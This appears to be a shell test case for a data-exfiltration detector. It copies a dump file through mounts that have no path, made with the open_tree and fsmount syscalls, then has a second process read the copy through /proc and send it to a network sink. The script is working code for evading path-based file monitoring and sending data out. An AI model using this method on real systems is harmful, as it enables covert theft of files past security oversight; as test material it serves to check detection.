#!/bin/bash
# B-unattached: the dump is taken through a clone of its folder's mount that is nowhere, into a tmpfs that is nowhere, and from there by another process.
# flow: open_tree and fsmount make mounts without a place; openat below their descriptors, copy; open of /proc/PID/fd/N/x, sendfile.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
cat >keeper.py <<'CODE'
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
CLONE, CLOEXEC, EMPTY_PATH, CREATE = 1, 0o2000000, 0x1000, 6
OPEN_TREE, FSOPEN, FSCONFIG, FSMOUNT = 428, 430, 431, 432
tree = libc.syscall(OPEN_TREE, -100, b"dumps", CLONE | CLOEXEC)
room = libc.syscall(FSOPEN, b"tmpfs", 0)
if min(tree, room) < 0 or libc.syscall(FSCONFIG, room, CREATE, None, None, 0) < 0:
    sys.exit(77)
mount = libc.syscall(FSMOUNT, room, 0, 0)
if mount < 0:
    sys.exit(77)
dump = os.open(sys.argv[1], os.O_RDONLY, dir_fd=tree)
copy = os.open("x", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=mount)
while part := os.read(dump, 45000):
    os.write(copy, part)
os.close(dump)
os.close(copy)
print(mount, file=open("at.new", "w"), flush=True)
os.rename("at.new", "at")
time.sleep(20)
CODE
bg python3 keeper.py "$(basename "$D")"
keeper=$LAST
for i in $(seq 50); do [ -e at ] && break; kill -0 "$keeper" 2>/dev/null || skip "no mounts without a place"; sleep .1; done
sink tcp
python3 - "/proc/$keeper/fd/$(cat at)/x" "$SINK" "$PORT" <<'CODE' || fail "send"
import os, socket, sys
file, sink = os.open(sys.argv[1], os.O_RDONLY), socket.create_connection((sys.argv[2], int(sys.argv[3])))
while os.sendfile(sink.fileno(), file, None, 100000):
    pass
CODE
sunk "$(stat -c %s "$D")"
